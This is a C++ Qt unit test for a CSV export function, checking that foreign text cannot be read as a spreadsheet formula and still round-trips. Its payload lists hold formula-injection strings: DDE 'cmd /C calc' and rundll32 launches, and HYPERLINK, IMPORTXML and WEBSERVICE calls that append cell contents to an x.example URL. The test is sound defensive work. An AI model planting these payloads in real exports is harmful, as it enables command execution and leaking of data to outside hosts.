// Foreign text on its way into a spreadsheet: none of it is taken for a formula, whichever
// separator the spreadsheet takes, and every reader of RFC 4180 gets back the words.
#include "models/core/csv_text.h"
#include "models/core/text_table.h"

#include <QTest>

#include <set>
#include <string>
#include <vector>

using namespace ballast;

namespace {

const std::vector<std::string> kBefore{"",
                                       " ",
                                       "  ",
                                       "\t",
                                       "\r",
                                       "\n",
                                       "\r\n",
                                       std::string(1, '\0'),
                                       "\"",
                                       "\"\"",
                                       "a;",
                                       "a,",
                                       "a|",
                                       "a\t",
                                       "a\n",
                                       "a\r\n",
                                       "\",",
                                       "\";",
                                       "';",
                                       "\xEF\xBB\xBF",
                                       "\xC2\xA0",
                                       "\xE3\x80\x80",
                                       " \xEF\xBB\xBF ",
                                       "x\",\"",
                                       "BTC-27MAR26-70000-C;"};
const std::vector<std::string> kSigns{
    "=",  "+",  "-",  "@",  "\xEF\xBC\x9D", "\xEF\xBC\x8B", "\xEF\xBC\x8D", "\xEF\xBC\xA0",
    "==", "+=", "-+", "=-@"};
const std::vector<std::string> kBodies{"1+1",
                                       "cmd|' /C calc'!A0",
                                       "HYPERLINK(\"https://x.example?leak=\"&A1,\"ok\")",
                                       "SUM(A1:A9)*cmd|' /C calc'!A0",
                                       "IMPORTXML(CONCAT(\"https://x.example/?v=\",A2),\"//a\")",
                                       "WEBSERVICE(\"https://x.example/\"&A1)",
                                       "DDE(\"cmd\";\"/C calc\";\"x\")",
                                       "2+5+cmd|' /C calc'!A0",
                                       "rundll32|'URL.dll,OpenURL calc.exe'!A",
                                       "IF(1;2;3)",
                                       "\"1\"",
                                       "A1\n=B1",
                                       "A1\r=B1",
                                       "A1;=B1",
                                       "A1,=B1",
                                       "A1\t=B1",
                                       "'=1"};
const std::vector<std::string> kAfter{"", "\"", ";"};

/// The fields of a text as a spreadsheet with this separator takes them.
std::vector<std::string> fieldsOf(const std::string& text, char separator)
{
    std::vector<std::string> fields(1);
    bool quoted = false;
    for (std::size_t i = 0; i < text.size(); ++i) {
        const char c = text[i];
        if (quoted) {
            if (c != '"')
                fields.back() += c;
            else if (i + 1 < text.size() && text[i + 1] == '"')
                fields.back() += text[++i];
            else
                quoted = false;
        } else if (c == '"' && fields.back().empty()) {
            quoted = true;
        } else if (c == separator || c == '\n' || c == '\r') {
            fields.emplace_back();
        } else {
            fields.back() += c;
        }
    }
    return fields;
}

/// Independent of what is tested: passes over blanks of every kind, then looks.
bool isFormula(std::string text)
{
    const std::vector<std::string> blanks{
        " ", "\t", "\r", "\n", "\xC2\xA0", "\xE3\x80\x80", "\xEF\xBB\xBF", std::string(1, '\0')};
    for (bool again = true; again;) {
        again = false;
        for (const std::string& blank : blanks)
            if (text.starts_with(blank)) {
                text.erase(0, blank.size());
                again = true;
            }
    }
    for (const std::string& sign : kSigns)
        if (text.starts_with(sign)) return true;
    return false;
}

std::string without(std::string text, char c)
{
    std::erase(text, c);
    return text;
}

std::string readable(const std::string& text)
{
    std::string out;
    for (const char c : text)
        out += static_cast<unsigned char>(c) < 0x20 ? "\\" + std::to_string(int{c})
                                                    : std::string(1, c);
    return out;
}

std::set<std::string> payloads()
{
    std::set<std::string> all;
    for (const std::string& before : kBefore)
        for (const std::string& sign : kSigns)
            for (const std::string& body : kBodies)
                for (const std::string& after : kAfter) all.insert(before + sign + body + after);
    return all;
}

}  // namespace

class TestFormulas : public QObject {
    Q_OBJECT

private slots:
    void noPayloadIsTakenForAFormula()
    {
        const auto corpus = payloads();
        QVERIFY(corpus.size() >= 5'000);
        int fields = 0;
        for (const std::string& payload : corpus) {
            core::TextTable table;
            table.columns = {"name", payload, "amount"};
            table.rows = {{payload, std::string{"BTC"}, -1.5}, {std::string{"x"}, payload, 2.0}};
            const std::string csv = core::csvText(table);
            for (const char separator : {',', ';', '\t', '|'}) {
                for (const std::string& field : fieldsOf(csv, separator)) {
                    ++fields;
                    // Our own number is typed, and a formula of nobody; by another separator it
                    // stands behind other text.
                    if (field == "-1.5") continue;
                    QVERIFY2(!isFormula(field), readable(payload + " as " + field).c_str());
                }
            }
        }
        qInfo("%zu payloads, %d fields", corpus.size(), fields);
    }

    void theWordsComeBack()
    {
        for (const std::string& payload : payloads()) {
            if (payload.find('\0') != payload.npos) continue;  // left out on purpose
            const auto fields = fieldsOf(core::csvCell(payload), ',');
            QCOMPARE(fields.size(), std::size_t{1});
            const std::string& field = fields.front();
            QVERIFY2(without(field, '\'') == without(payload, '\''), field.c_str());
            QVERIFY(field.size() <= payload.size() + 4);
        }
    }

    void whatIsNoFormulaIsLeftAsItIs()
    {
        for (const char* text : {"BTC-27MAR26-70000-C", "Band breach", "a=b", "1-2", "n/a", "–1",
                                 "naïve", "x@y.example", "'quoted'"})
            QCOMPARE(core::csvCell(text), std::string{text});
    }
};

QTEST_APPLESS_MAIN(TestFormulas)
#include "tst_formulas.moc"
